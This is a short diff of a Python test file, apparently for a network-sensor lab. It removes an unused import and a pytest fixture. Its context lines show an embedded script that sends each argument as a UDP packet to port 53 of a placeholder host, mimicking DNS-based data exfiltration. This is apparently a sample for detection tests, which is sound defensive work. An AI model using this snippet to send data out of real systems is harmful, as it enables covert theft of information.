@@ -5,7 +5,6 @@ from __future__ import annotations
 import json
 import sys
 import time
-from collections.abc import Iterator
 from datetime import UTC, date, datetime, timedelta
 from pathlib import Path
 from typing import Any
@@ -30,12 +29,6 @@ import socket, sys
 for payload in sys.argv[1:]:
     socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(payload.encode(), ("198.51.100.7", 53))
 """
-
-
-@pytest.fixture
-def lab() -> Iterator[Lab]:
-    with Lab() as made:
-        yield made
 
 
 def altered(lab: Lab, **settings: Any) -> Sensor:
